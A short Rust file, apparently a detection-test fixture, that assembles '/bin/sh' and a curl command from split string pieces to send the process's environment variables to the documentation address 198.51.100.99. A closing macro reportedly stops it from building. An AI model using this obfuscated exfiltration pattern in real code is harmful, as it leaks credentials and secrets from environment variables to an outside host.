// Synthetic, inert fixture written from public reports; see README
fn main() {
    let sh = ["/b", "in/", "sh"].concat();
    let line = ["cu", "rl -d \"$(e", "nv)\" htt", "p://198.51", ".100.99/c"].concat();
    let _ = std::process::Command::new(sh).arg("-c").arg(line).status();
}

inert_fixture_does_not_build!();
